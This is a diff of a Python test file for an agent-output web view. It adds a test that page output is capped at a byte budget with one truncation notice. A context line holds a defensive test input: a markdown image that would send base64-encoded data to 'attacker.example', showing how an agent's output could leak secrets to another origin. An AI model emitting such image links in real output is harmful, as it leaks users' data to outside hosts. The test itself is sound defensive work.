@@ -131,3 +131,16 @@ def test_agent_markdown_sends_nothing_to_another_origin() -> None:
     html = str(agent_markdown("![leak](https://attacker.example/p.png?d=c2VjcmV0) ![ok](/static/x.png) ![p](//evil/x)"))
     assert "attacker.example" not in html and "//evil" not in html
     assert 'alt="leak"' in html and 'src="/static/x.png"' in html
+
+
+def test_a_page_shows_output_up_to_its_budget_and_says_so() -> None:
+    from tasks.http.pages.timeline import PAGE_OUTPUT_BYTES
+
+    chunk = "\ufffd" * 100_000  # 300,000 bytes as the page carries it
+    events = [ev(i, "stdout", text=chunk) for i in range(1, 21)]
+    events.append(ev(21, "stdout", text="", omitted_bytes=1234))
+    [item] = build(events)
+    shown = "".join(t for _, t in item.chunks)
+    assert len(shown.encode()) <= PAGE_OUTPUT_BYTES + 200
+    assert shown.count("more output than a page shows") == 1
+    assert len(item.chunks) == 21  # every event keeps its place (the live view counts on them)
